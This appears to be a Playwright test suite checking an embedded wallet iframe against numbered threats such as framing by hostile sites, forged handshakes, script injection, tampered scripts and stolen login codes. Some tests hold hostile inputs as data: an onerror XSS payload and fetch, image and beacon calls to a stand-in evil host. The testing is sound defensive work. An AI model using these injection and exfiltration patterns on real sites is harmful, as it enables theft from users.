import type { Frame } from '@playwright/test'
import { askWallet } from './askWallet.ts'
import { enterCode, expect, login, test } from './walletTest.ts'

test('behavior: threat 1: a host page reads neither the frame nor its storage', async ({ host, page, mail }) => {
  await host.open()
  await login({ host, mail })
  const seen = await page.evaluate(() => {
    const frame = document.querySelector('iframe')
    const attempt = (read: () => unknown) => {
      try {
        return String(read())
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      document: frame?.contentDocument,
      storage: attempt(() => frame?.contentWindow?.localStorage),
      databases: attempt(() => frame?.contentWindow?.indexedDB),
    }
  })
  expect(seen).toEqual({ document: null, storage: 'SecurityError', databases: 'SecurityError' })
})

test('behavior: threat 2: a host page cannot call the wallet’s server', async ({ host, page, world }) => {
  await host.open()
  const outcome = await page.evaluate(async (url) => {
    const attempt = (options: RequestInit) =>
      fetch(url, options).then(
        () => 'answered',
        (error: Error) => error.name,
      )
    return [
      await attempt({}),
      await attempt({ credentials: 'include' }),
      await attempt({ method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
    ]
  }, `${world.wallet}/v1/wallet`)
  expect(outcome).toEqual(['TypeError', 'TypeError', 'TypeError'])
})

test('behavior: threats 4 and 5: an unlisted site and an unknown project get no frame', async ({
  page,
  host,
  world,
}) => {
  const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()))
  await host.open({ host: world.hosts.evil, shake: false })
  await refused
  expect(page.frames()[1]?.url()).not.toContain(world.wallet)

  const answer = await askWallet({ path: `/frame?projectId=${'f'.repeat(32)}&version=0.1.0` })
  expect(answer.status).toBe(403)
  expect(answer.headers['content-security-policy']).toContain("frame-ancestors 'none'")
})

test('behavior: threat 6: an honest page inside a hostile one gets no frame', async ({ page, world }) => {
  const frameUrl = `${world.wallet}/frame?projectId=${world.projectId}&version=0.1.0`
  const held = `${world.hosts.good}/holds?url=${encodeURIComponent(frameUrl)}`
  const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()))
  await page.goto(`${world.hosts.evil}/holds?url=${encodeURIComponent(held)}`)
  await refused
  expect(page.frames()[2]?.url()).not.toContain(world.wallet)
})

test('behavior: threats 7 and 8: neither another frame nor a second handshake gets the channel', async ({
  page,
  host,
  world,
}) => {
  await host.open({ shake: false })
  await page.evaluate(() => (window as unknown as { host: { loaded: Promise<void> } }).host.loaded)
  // A sibling with the host's origin starts the handshake first, but it is not the parent.
  const forged = await page.evaluate(
    ({ origin, projectId }) =>
      new Promise<boolean>((resolve) => {
        const sibling = document.createElement('iframe')
        document.body.append(sibling)
        const channel = new MessageChannel()
        channel.port1.onmessage = () => resolve(true)
        const post = new (sibling.contentWindow as Window & typeof globalThis).Function(
          'target',
          'message',
          'origin',
          'port',
          'target.postMessage(message, origin, [port])',
        )
        const target = document.querySelector<HTMLIFrameElement>('#wallet')?.contentWindow
        post(target, { k: 'ew:hello', v: 1, projectId, nonce: crypto.randomUUID() }, origin, channel.port2)
        setTimeout(() => resolve(false), 500)
      }),
    { origin: world.wallet, projectId: world.projectId },
  )
  expect(forged).toBe(false)

  const shake = () =>
    page.evaluate(
      (options) =>
        Promise.race([
          (window as unknown as { host: { hello: (o: unknown) => Promise<void> } }).host
            .hello(options)
            .then(() => true),
          new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 1000)),
        ]),
      { frame: world.wallet, projectId: world.projectId },
    )
  expect(await shake()).toBe(true)
  expect(await shake()).toBe(false)
})

test('behavior: threat 17: no window of the wallet can be framed, not even by the wallet', async () => {
  for (const path of ['approve', 'recover', 'security', 'export', 'protect', 'device', 'undo']) {
    const answer = await askWallet({ path: `/w/${path}` })
    expect(answer.status, path).toBe(200)
    expect(answer.headers['content-security-policy'], path).toContain("frame-ancestors 'none'")
  }
})

test('behavior: threat 24: nothing is injected into the frame', async ({ host, page, world }) => {
  await host.open()
  const frame = walletFrame(page.frames(), world.wallet)
  // Evaluated from outside the page's policy, like an injected script: the policy refuses sinks and sources.
  const outcome = await frame.evaluate(async () => {
    const attempt = (run: () => unknown) => {
      try {
        run()
        return 'ran'
      } catch (error) {
        return (error as Error).name
      }
    }
    const script = document.createElement('script')
    const target = window as unknown as {
      injected?: boolean
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
    }
    const results = {
      html: attempt(() => {
        document.body.innerHTML = '<img src=x onerror="window.injected = true">'
      }),
      inline: attempt(() => {
        script.text = 'window.injected = true'
        document.body.append(script)
      }),
      policy: attempt(() => target.trustedTypes.createPolicy('anything', {})),
      worker: attempt(() => new Worker('/assets/x.js')),
    }
    return { ...results, injected: target.injected ?? false }
  })
  expect(outcome).toEqual({
    html: 'TypeError',
    inline: 'TypeError',
    policy: 'TypeError',
    worker: 'TypeError',
    injected: false,
  })
})

test('behavior: threat 25: nothing leaves the frame for another host', async ({ host, page, world }) => {
  await host.open()
  const strangers: string[] = []
  page.on('response', (response) => {
    if (response.url().startsWith(world.hosts.evil)) strangers.push(response.url())
  })
  const outcome = await walletFrame(page.frames(), world.wallet).evaluate(async (evil) => {
    const failed = (promise: Promise<unknown>) =>
      promise.then(
        () => false,
        () => true,
      )
    const image = new Image()
    const blocked = new Promise<boolean>((resolve) => {
      image.onerror = () => resolve(true)
      image.onload = () => resolve(false)
    })
    image.src = `${evil}/?image`
    return {
      fetch: await failed(fetch(`${evil}/?fetch`, { mode: 'no-cors' })),
      image: await blocked,
      beacon: !navigator.sendBeacon(`${evil}/?beacon`, 'x'),
    }
  }, world.hosts.evil)
  expect(outcome).toMatchObject({ fetch: true, image: true })
  expect(strangers).toEqual([])
})

test('behavior: threat 26: a script whose hash differs from the page’s does not run', async ({ host, page, world }) => {
  await page.route(`${world.wallet}/assets/frame-*.js`, async (route) => {
    const { body } = await askWallet({ path: new URL(route.request().url()).pathname })
    await route.fulfill({
      contentType: 'text/javascript',
      headers: { 'cross-origin-resource-policy': 'same-origin', 'access-control-allow-origin': world.wallet },
      body: `${body}\n;window.swapped = true`,
    })
  })
  const refused = page.waitForEvent('console', (message) => /integrity/i.test(message.text()))
  await host.open({ shake: false })
  await refused
  const frame = walletFrame(page.frames(), world.wallet)
  expect(await frame.evaluate(() => 'swapped' in window)).toBe(false)
})

test('behavior: threat 57: two sites see two wallets and cannot link them to one visitor', async ({
  host,
  mail,
  world,
}) => {
  await host.open()
  const user = await login({ host, mail })
  expect(user.address).toMatch(/^0x/)
  await host.open({ host: world.hosts.other })
  expect(await host.request('isConnected')).toEqual(expect.objectContaining({ result: { isConnected: false } }))
})

test('behavior: threat 67: the wallet answers only to its own hostname', async ({ world }) => {
  const { port } = new URL(world.wallet)
  for (const path of ['/frame', '/v1/wallet', '/w/security'])
    expect((await fetch(`http://127.0.0.1:${port}${path}`)).status, path).toBe(421)
})

test('behavior: threat 38: a stolen code is useless without the frame that requested it', async ({ host, mail }) => {
  await host.open()
  await host.request('connectEmail', { email: mail.address })
  const code = await mail.code()
  // The host may not enter it, and another browser has no attempt for it.
  const typed = await host.request('connectOtp', { otp: code })
  expect(typed.ok).toBe(false)
  const thief = await askWallet({
    path: '/v1/auth/email/verify',
    body: { attemptId: crypto.randomUUID(), otp: code },
  })
  expect(thief.status).toBe(401)
})

test('behavior: threat 54: a host page with its own opener policy works fully', async ({ host, mail, world }) => {
  await host.open({ host: world.hosts.good, path: '/?coop' })
  await enterCode({ host, mail })
  expect(await host.ask('connectOtp')).toMatchObject({ address: expect.stringMatching(/^0x/) })
})

/** Finds the wallet's frame among a page's frames. */
function walletFrame(frames: Frame[], wallet: string): Frame {
  const frame = frames.find((candidate) => candidate.url().startsWith(wallet))
  if (!frame) throw new Error('The page holds no wallet')
  return frame
}
